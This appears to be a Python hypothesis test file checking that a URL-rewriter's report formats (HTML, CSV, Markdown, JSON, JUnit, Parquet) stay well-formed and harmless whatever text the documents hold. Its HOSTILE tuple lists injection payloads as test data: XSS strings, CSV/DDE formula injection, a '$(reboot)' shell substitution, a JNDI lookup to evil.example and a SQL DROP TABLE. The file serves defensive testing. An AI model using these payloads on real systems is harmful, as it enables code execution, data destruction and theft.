"""Documents hold anything. Whatever they hold, a report is well-formed and harmless."""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import pyarrow.parquet
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tests.reports.plans import CHAT, LOGO, make_plan, write_plan
from tests.reports.rendering import render, render_text
from url_rewriter.documents import Document, Holder, Outcome, Revision, UnreachableText
from url_rewriter.reports.rows import COLUMNS
from url_rewriter.text import spell_out

HOSTILE = (
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "{{ 7 * 7 }}{% raw %}",
    "%%ROWS%%",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egnp.exe\u2066",
    "[bold red]x[/] [link=https://evil.example]",
    '=HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\uff1d1+1",
    "a`b``c|d\\|e",
    "![x](https://evil.example/x.png) <https://evil.example>",
    "@someone #1",
    "]]>&amp;<!--",
    "line\nbreak\r\n\tand\x00nul",
    "\u2028\u2029\ufeff\U000e0041",
    "$(reboot) ${jndi:ldap://evil.example/a}",
    "'; DROP TABLE documents; --",
)

anything = st.sampled_from(HOSTILE) | st.text(
    st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40
)


_FOLDER = tempfile.TemporaryDirectory(prefix="hostile-")  # until the tests end


def plan_of(texts: list[str]) -> Path:
    """A plan whose documents hold each text as an id, as field names, in a URL and around one."""
    folder = Path(tempfile.mkdtemp(dir=_FOLDER.name))
    documents = [
        Document(
            f"c{text.replace('/', '_')}/{number}{text.replace('/', '_')}",
            Revision(text),
            (
                ((text, 0, text), LOGO + text),
                (("whole",), CHAT + text.replace(" ", "%20")),
                (("prose",), f"{text} {LOGO}x.png {text}"),
                (("elsewhere",), f"https://storage.googleapis.com/other-bucket/{text}"),
            ),
            (UnreachableText((text, LOGO + text), Holder.MAP_KEY, LOGO + text),),
        )
        for number, text in enumerate(texts)
    ]
    path = make_plan(folder / "omi.plan", documents, missing=["app-logos/x.png"])
    why = {documents[0].path: (Outcome.CONFLICT, f"left alone: {texts[0]}")}
    return write_plan(path, outcomes=why)


def check_that_json_is_json_in_ascii(path: Path, texts: list[str]) -> None:
    report = render(path, "json")
    assert report.isascii()
    rows = json.loads(report)["rows"]
    assert {row["revision"] for row in rows} - {""} <= set(texts)


def check_that_csv_has_no_formula_no_control_character_and_its_columns(path: Path) -> None:
    report = render_text(path, "csv")
    lines = list(csv.reader(io.StringIO(report, newline="")))
    assert {len(line) for line in lines} == {len(COLUMNS)}
    assert len(lines) == len(report.splitlines())
    cells = [cell for line in lines for cell in line]
    assert [cell for cell in cells if cell.lstrip().startswith(tuple("=+-@＝＋－＠"))] == []  # noqa: RUF001 - the wide forms
    assert [cell for cell in cells if spell_out(cell) != cell] == []


MARKDOWN_TAGS = {"h1", "h2", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"}


def check_that_markdown_shows_texts_as_code_and_keeps_its_tables(path: Path) -> None:
    report = render_text(path, "markdown")
    assert spell_out(report.replace("\n", "")) == report.replace("\n", "")
    page = MarkdownIt("commonmark", {"html": True}).enable("table").render(report)
    tags = set(re.findall(r"<([a-z0-9]+)", page))
    assert tags <= MARKDOWN_TAGS | {"code", "strong"}
    for table in re.findall(r"<table>.*?</table>", page, re.DOTALL):
        widths = {len(re.findall(r"<t[hd]", row)) for row in table.split("<tr>")[1:]}
        assert len(widths) == 1


def check_that_junit_is_xml(path: Path) -> None:
    suite = ET.fromstring(render(path, "junit"))
    failures = [case.get("name") for case in suite if case.find("failure") is not None]
    assert int(suite.get("failures", "")) == len(failures)


def check_that_parquet_keeps_every_text_as_it_is(path: Path) -> None:
    table = pyarrow.parquet.read_table(io.BytesIO(render(path, "parquet")))
    rows = json.loads(render(path, "json"))["rows"]
    assert [row["old"] for row in rows] == table["old"].to_pylist()
    assert [row["evidence"]["size"] for row in rows] == table["size"].to_pylist()


_PLAIN = plan_of(["plain"])


class Skeleton(HTMLParser):
    """What elements and attributes a page is made of."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.attributes: set[tuple[str, str]] = set()
        self.links: set[str] = set()
        self.data = ""
        self._in_data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links |= {value or "" for name, value in attrs if name in ("href", "src")}
        self._in_data = ("id", "data") in attrs

    def handle_data(self, data: str) -> None:
        if self._in_data:
            self.data += data
            self._in_data = False


def skeleton_of(page: str) -> Skeleton:
    skeleton = Skeleton()
    skeleton.feed(page)
    return skeleton


def check_that_a_page_is_built_of_its_own_elements_only(path: Path) -> None:
    harmless = skeleton_of(render_text(_PLAIN, "html"))
    hostile = skeleton_of(render_text(path, "html"))
    assert set(hostile.tags) <= set(harmless.tags)
    assert hostile.attributes <= harmless.attributes
    assert hostile.tags["script"] == 2
    assert {link for link in hostile.links if not link.startswith("#")} == set()
    columns = json.loads(hostile.data)["columns"]
    assert len(columns["document"]) == len(columns["status"]["rows"])


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@example(list(HOSTILE))
@given(st.lists(anything, min_size=1, max_size=4))
def test_whatever_documents_hold_every_format_is_well_formed_and_harmless(texts: list[str]) -> None:
    path = plan_of(texts)
    check_that_json_is_json_in_ascii(path, texts)
    check_that_csv_has_no_formula_no_control_character_and_its_columns(path)
    check_that_markdown_shows_texts_as_code_and_keeps_its_tables(path)
    check_that_junit_is_xml(path)
    check_that_parquet_keeps_every_text_as_it_is(path)
    check_that_a_page_is_built_of_its_own_elements_only(path)


def test_a_text_of_a_megabyte_stays_out_of_page_and_markdown(tmp_path: Path) -> None:
    huge = "x" * 1_000_000
    document = Document("c/d", Revision("1"), ((("f",), f"https://{huge}/ {LOGO}{huge}"),))
    path = make_plan(tmp_path / "p", [document])
    assert len(render(path, "html")) < 200_000
    assert len(render(path, "markdown")) < 20_000
    assert len(render(path, "junit")) < 20_000
